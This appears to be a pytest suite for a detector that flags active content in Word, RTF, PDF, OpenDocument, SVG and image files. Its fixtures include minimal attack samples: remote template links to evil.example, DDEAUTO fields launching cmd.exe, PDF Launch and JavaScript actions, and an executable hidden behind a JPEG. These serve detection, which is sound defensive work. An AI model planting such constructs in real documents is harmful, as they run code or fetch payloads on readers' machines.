"""What in a document could act by itself is named; a plain document has nothing to name."""

import struct
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parsers import look
from parsers.active import ACTIVE_WORDS, _looker, active_in
from parsers.facts import Wants

ELSEWHERE = '<Relationship Type="http://x/{}" Target="{}" TargetMode="External"/>'
BODY = "<w:document xmlns:w='w'><w:body>{}</w:body></w:document>"


@pytest.fixture
def docx(tmp_path):
    """A Word file of these members besides the body."""

    def make(body="<w:p/>", **members):
        path = tmp_path / "a.docx"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("word/document.xml", BODY.format(body))
            for name, data in members.items():
                archive.writestr(name, data)
        return path

    return make


@pytest.fixture
def file(tmp_path):
    def make(data):
        path = tmp_path / "a"
        path.write_bytes(data)
        return path

    return make


def ole(*names):
    """A compound file whose directory holds these names."""
    head = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    struct.pack_into("<HHH", head, 26, 3, 0xFFFE, 9)
    struct.pack_into("<II", head, 44, 1, 0)
    struct.pack_into("<109I", head, 76, 1, *[0xFFFFFFFF] * 108)
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HB", len(name) * 2 + 2, 1) + bytes(61)
        for name in ("Root Entry", *names)
    )
    table = struct.pack("<128I", 0xFFFFFFFE, 0xFFFFFFFD, *[0xFFFFFFFF] * 126)
    return bytes(head) + entries.ljust(512, b"\0")[:512] + table


def test_plain_document_has_nothing(docx):
    assert active_in(docx(), "docx") == ()


@pytest.mark.parametrize(
    ("name", "data", "found"),
    [
        ("word/vbaProject.bin", b"x", "macros"),
        ("word/embeddings/oleObject1.bin", b"x", "objects"),
        ("word/activeX/activeX1.xml", b"x", "objects"),
        (
            "word/_rels/settings.xml.rels",
            ELSEWHERE.format("attachedTemplate", "http://evil.example/a.dotm"),
            "template",
        ),
        ("word/_rels/settings.xml.rels", ELSEWHERE.format("attachedTemplate", r"\\evil.example\a.dotm"), "template"),
        ("word/_rels/document.xml.rels", ELSEWHERE.format("oleObject", "https://evil.example/a"), "objects"),
    ],
)
def test_document_with_this_member_has(docx, name, data, found):
    assert active_in(docx(**{name: data}), "docx") == (found,)


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "file:///C:/Users/wang/Normal.dotm"),
        ("hyperlink", "https://www.cctv.com/"),
        ("image", "https://img.example/a.png"),
    ],
)
def test_document_that_points_elsewhere_as_many_do_has_nothing(docx, kind, target):
    assert active_in(docx(**{"word/_rels/document.xml.rels": ELSEWHERE.format(kind, target)}), "docx") == ()


@pytest.mark.parametrize(
    "body",
    [
        '<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:p>',
        "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:p>",
        '<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>',
    ],
)
def test_document_with_a_dde_field_has_it(docx, body):
    assert active_in(docx(body), "docx") == ("dde",)


def test_document_that_speaks_of_dde_has_nothing(docx):
    assert active_in(docx("<w:p><w:t>DDE 是什么</w:t></w:p>"), "docx") == ()


def test_old_document_with_macros_has_them(file):
    assert active_in(file(ole("WordDocument", "Macros")), "doc") == ("macros",)


def test_old_document_with_objects_has_them(file):
    assert active_in(file(ole("WordDocument", "ObjectPool")), "doc") == ("objects",)


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj", ("script",)),
        (b"%PDF-1.7\n1 0 obj<</S/J#61vaScript>>endobj", ("script",)),
        (b"%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj", ("launch",)),
        (b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile>>stream\nx\nendstream", ("attached",)),
        (
            b"%PDF-1.7\n1 0 obj<</Type/ObjStm>>stream\r\n" + zlib.compress(b"<</S/JavaScript>>") + b"\nendstream",
            ("script",),
        ),
        (b"%PDF-1.7\n1 0 obj<</Type/ObjStm>>stream\r\nnot packed", ()),
        (b"%PDF-1.7\n1 0 obj<</Type/Catalog/Title(JavaScript)>>endobj", ()),
    ],
)
def test_pdf_has(file, data, found):
    assert active_in(file(data), "pdf") == found


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", ("objects",)),
        (rb"{\rtf1 {\*\template http://evil.example/a}}", ("template",)),
        (rb"{\rtf1 {\field{\*\fldinst DDEAUTO cmd}}}", ("dde",)),
        (rb"{\rtf1 \'d7\'f7}", ()),
    ],
)
def test_rtf_has(file, data, found):
    assert active_in(file(data), "rtf") == found


def test_svg_with_a_script_has_it(file):
    assert active_in(file(b"<svg><script>1</script></svg>"), "svg") == ("script",)


def test_picture_with_a_zip_behind_it_has_it(tmp_path):
    path = tmp_path / "a.jpg"
    path.write_bytes(b"\xff\xd8\xff\xe0 a picture")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("a.exe", b"MZ")
    assert active_in(path, "jpeg") == ("appended",)


def test_open_document_with_macros_has_them(tmp_path):
    path = tmp_path / "a.odt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("Basic/Standard/Module1.xml", "Sub Main")
    assert active_in(path, "odt") == ("macros",)


def test_look_names_what_is_active(docx):
    assert look(docx(**{"word/vbaProject.bin": b"x"}), Wants(), None).active == ("macros",)


@given(st.sampled_from(["docx", "doc", "odt", "pdf", "rtf", "svg", "jpeg"]), st.binary(max_size=2000))
def test_any_bytes_give_known_words(tmp_path_factory, found, data):
    path = tmp_path_factory.getbasetemp() / "active"
    path.write_bytes(data)
    assert set(active_in(path, found)) <= set(ACTIVE_WORDS)


def test_film_is_not_looked_through():
    assert _looker("mp4") is None
